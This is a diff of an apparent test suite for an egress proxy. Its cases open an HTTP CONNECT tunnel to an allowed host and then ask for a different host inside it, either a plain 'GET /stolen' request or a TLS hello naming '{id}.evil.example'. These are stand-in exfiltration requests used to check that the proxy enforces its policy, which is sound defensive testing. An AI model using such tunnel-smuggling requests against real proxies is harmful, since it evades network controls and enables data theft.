@@ -34,11 +34,20 @@ const [host, port] = process.env.http_proxy.replace('http://', '').split(':')
 const socket = net.connect({ host, port: Number(port) })
 const CRLF = '\\r\\n'
 const say = (...lines) => lines.join(CRLF) + CRLF + CRLF
+// What is said in a tunnel, once it is open.
+let inside = () => {}
 ${lineOf(spoken, world)}
-let all = ''
-socket.on('data', (bytes) => { all += bytes.toString('latin1') })
+const end = () => { console.log(all.slice(0, 800)); process.exit(0) }
+let all = '', quiet
+socket.on('data', (bytes) => {
+  all += bytes.toString('latin1')
+  clearTimeout(quiet)
+  quiet = setTimeout(end, 700)
+  inside()
+  inside = () => {}
+})
 socket.on('error', () => {})
-setTimeout(() => { console.log(all.slice(0, 800)); process.exit(0) }, 700)
+socket.on('close', end)
 END
 node /tmp/speak.mjs`,
     {
@@ -152,20 +161,20 @@ s.bind(() => { s.setBroadcast(true); for (const a of ['127.0.0.1', '10.255.255.2
     'proxy-tunnel-header',
     'opens a tunnel and asks for another host in it',
     (world) => `socket.write(say('CONNECT a.granted.example:80 HTTP/1.1', 'Host: a.granted.example'))
-setTimeout(() => socket.write(say('GET /stolen HTTP/1.1', 'Host: ${world.id}.evil.example')), 200)`,
+inside = () => socket.write(say('GET /stolen HTTP/1.1', 'Host: ${world.id}.evil.example'))`,
   ),
   byProxy(
     'proxy-tunnel-name',
     'opens a tunnel and names another host in TLS',
     (world) => `${clientHello}
 socket.write(say('CONNECT a.granted.example:443 HTTP/1.1', 'Host: a.granted.example'))
-setTimeout(() => { socket.write(hello('${world.id}.evil.example')); socket.write(say('GET /${world.id} HTTP/1.1', 'Host: ${world.id}')) }, 200)`,
+inside = () => { socket.write(hello('${world.id}.evil.example')); socket.write(say('GET /${world.id} HTTP/1.1', 'Host: ${world.id}')) }`,
   ),
   byProxy(
     'proxy-tunnel-plain',
     'opens a tunnel for TLS and speaks plainly',
     (world) => `socket.write(say('CONNECT a.granted.example:443 HTTP/1.1', 'Host: a.granted.example'))
-setTimeout(() => socket.write(say('GET /stolen HTTP/1.1', 'Host: ${world.id}.evil.example')), 200)`,
+inside = () => socket.write(say('GET /stolen HTTP/1.1', 'Host: ${world.id}.evil.example'))`,
   ),
   byProxy(
     'proxy-port',
